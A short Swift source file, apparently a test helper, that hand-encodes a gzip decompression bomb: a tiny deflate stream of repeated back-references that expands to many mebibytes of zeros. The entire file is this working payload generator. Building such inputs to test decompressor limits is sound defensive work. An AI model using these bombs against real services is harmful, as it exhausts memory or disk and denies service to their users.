/// Bombs for gzip, made without a library.
enum Deflate {
    /// A gzip file of zeros (RFC 1952) in one block with fixed codes (RFC 1951, 3.2.6): a zero, and then copies of 258
    /// zeros from one place before. Its check sum is wrong, which is never read.
    static func zeros(mebibytes: Int) -> [UInt8] {
        var bits = BitWriter()
        bits.put(1, 1)
        bits.put(1, 2)
        // Literal 0: the eight bits 00110000, the first of them highest.
        bits.putReversed(0b0011_0000, 8)
        for _ in 0..<(mebibytes << 20) / 258 {
            // Length 258 is code 285: the eight bits 11000101. Distance 1 is code 0 of five bits.
            bits.putReversed(0b1100_0101, 8)
            bits.put(0, 5)
        }
        // The end of the block is code 256 of seven bits.
        bits.put(0, 7)
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bits.bytes + [UInt8](repeating: 0, count: 8)
    }
}
